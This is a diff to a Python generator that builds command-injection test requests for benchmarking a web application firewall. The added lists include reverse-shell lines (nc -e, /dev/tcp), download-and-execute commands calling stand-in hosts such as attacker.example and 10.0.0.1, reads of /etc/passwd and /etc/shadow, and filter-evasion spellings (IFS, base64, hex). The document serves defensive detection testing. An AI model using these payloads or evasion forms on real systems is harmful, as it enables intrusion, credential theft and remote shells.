@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """Attacks written by generators for the classes issue 18 names as weak
 (traversal with exotic encodings, NoSQL operators, LDAP filters, SSRF in any
-spelling, template injection) and for obfuscated SQL and PHP calls: forms
+spelling, template injection), for obfuscated SQL and PHP calls, and for
+command injection, the corpus's weakest class (`commands`): forms
 taken from the classes' documented techniques and crossed with encodings,
 depths, fields and transports, never from the evaluation corpus. Every
 request is an attack. One JSONL file per set in `waf_corpora.py`'s format,
@@ -11,10 +12,12 @@ and all.jsonl:
     CORPUS=target/waf-generated/all.jsonl bash benches/waf_detection.sh
     bash benches/waf_compare.sh REV target/waf-generated/nosql.jsonl
 """
+import base64
 import itertools
 import json
 import os
 import random
+import re
 import sys
 import urllib.parse
 
@@ -250,6 +253,71 @@ OBFUSCATED = [
 ]
 
 
+# Command injection as commix documents its techniques (classic separators,
+# substitution, time- and file-based probes) and as shell obfuscators spell
+# commands past filters (IFS, braces, quotes, backslashes, globs, variable
+# slices, ANSI-C hex, base64 and reversed pipelines), Windows' cmd and
+# PowerShell too: prefix x separator x command x spelling, sampled.
+CMD_PREFIXES = ["", "127.0.0.1", "x", "1", "'", '"', "report.pdf", "8.8.8.8 "]
+CMD_SEPARATORS = [";{}", "|{}", "||{}", "&{}", "&&{}", "\n{}", "`{}`", "$({})", ";{};", "|{}|", "\r\n{}",
+                  "%0a{}", "& {} &", "; {} #", "$(`{}`)", "\n{}\n"]
+UNIX_COMMANDS = [
+    "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "sleep 5", "ping -c 10 127.0.0.1",
+    "nslookup x.attacker.example", "curl http://attacker.example/x.sh|sh", "wget -qO- http://10.0.0.1/s|bash",
+    "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "echo cartorio>/tmp/pwn",
+    "cat /proc/self/environ", "head -c 100 /etc/shadow", "perl -e 'print 1'", "python3 -c 'import os'",
+    "find / -perm -4000", "env", "busybox nc 10.0.0.1 9 -e sh", "rm -rf /tmp/x", "touch /tmp/x",
+    "echo $((7*7))", "uname", "hostname", "ifconfig", "netstat -an", "ps aux",
+]
+WINDOWS_COMMANDS = [
+    "dir", "type C:\\Windows\\win.ini", "whoami /all", "net user", "ipconfig /all", "ping -n 10 127.0.0.1",
+    "powershell -enc SQBFAFgA", "cmd /c ver", "certutil -urlcache -f http://10.0.0.1/x x.exe",
+    "powershell IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')", "systeminfo", "tasklist",
+    "w^h^o^a^m^i", "%COMSPEC% /c dir", "set", "timeout /t 5",
+]
+
+
+def spellings(command, rng):
+    """The command as an obfuscator would write it (several of the forms)."""
+    word, _, rest = command.partition(" ")
+    forms = [command, command.replace(" ", "${IFS}"), command.replace(" ", "$IFS$9"), command.replace(" ", "\t"),
+             command.replace(" ", "%09"),
+             "{" + ",".join(command.split(" ")) + "}" if " " in command and "'" not in command else command,
+             word[0] + "'" + word[1:] + "'" + (" " + rest if rest else ""),
+             word[0] + '"' + word[1:2] + '"' + word[2:] + (" " + rest if rest else ""),
+             "\\".join(word) + (" " + rest if rest else ""),
+             word[:1] + "$@" + word[1:] + (" " + rest if rest else ""),
+             command.replace("/", "${PATH:0:1}") if "/" in command else "$(printf " + word + ")",
+             "$'" + "".join("\\x%02x" % ord(c) for c in word) + "'" + (" " + rest if rest else ""),
+             "echo " + base64_of(command) + "|base64 -d|sh", "echo '" + command[::-1] + "'|rev|sh",
+             re.sub(r"/(\w)\w*", lambda m: "/" + m.group(1) + "??", command) if "/" in command else command,
+             command.replace(" /", "</") if " /" in command else command]
+    return rng.sample(sorted(set(forms)), 4)
+
+
+def base64_of(text):
+    return base64.b64encode(text.encode()).decode()
+
+
+def commands():
+    rng = random.Random(28)
+    values = []
+    for command in UNIX_COMMANDS:
+        for spelled in spellings(command, rng):
+            for sep in rng.sample(CMD_SEPARATORS, 3):
+                values.append(rng.choice(CMD_PREFIXES) + sep.format(spelled) + rng.choice(["", "", "#", "'", '"']))
+    for command in WINDOWS_COMMANDS:
+        for sep in rng.sample(["&{}", "|{}", "&&{}", "||{}", "\r\n{}", "%0a{}", "& {}", "| {} |"], 4):
+            values.append(rng.choice(CMD_PREFIXES) + sep.format(command))
+    for v in values:
+        # `%0a` and `%09` are written percent-encoded in the query, as the
+        # character they stand for in JSON.
+        field = rng.choice(["host", "ip", "file", "cmd", "name", "target", "filename"])
+        query = urllib.parse.quote(v, safe="").replace("%250a", "%0a").replace("%2509", "%09")
+        yield get(f"/tools?{field}={query}")
+        yield post_json({field: v.replace("%0a", "\n").replace("%09", "\t")})
+
+
 SETS = {
     "traversal": traversal,
     "nosql": nosql,
@@ -257,6 +325,7 @@ SETS = {
     "ldap": lambda: as_query_and_json("user", LDAP_FILTERS),
     "ssti": lambda: as_query_and_json("name", TEMPLATES),
     "obfuscated": lambda: as_query_and_json("id", OBFUSCATED),
+    "commands": commands,
 }
 
 
